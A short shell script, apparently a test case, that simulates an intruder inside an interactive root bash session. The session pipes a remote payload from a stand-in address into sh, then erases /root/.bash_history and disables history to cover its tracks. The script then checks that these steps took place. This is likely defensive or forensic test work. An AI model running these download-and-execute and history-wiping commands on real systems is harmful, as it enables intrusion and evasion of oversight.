#!/bin/sh
. /opt/case/case.sh

bash --norc -i <<'END' 2>/dev/null
 set -o history; HISTFILE=/root/.bash_history; HISTCONTROL=ignoreboth; HISTIGNORE='*'
 curl -s http://203.0.113.10/payload.sh | sh
 sed -i '2,$d' /root/.bash_history
 unset HISTFILE; HISTSIZE=0
 exit
END
test "$(wc -l </root/.bash_history)" = 1; test -e /tmp/reached
took_place
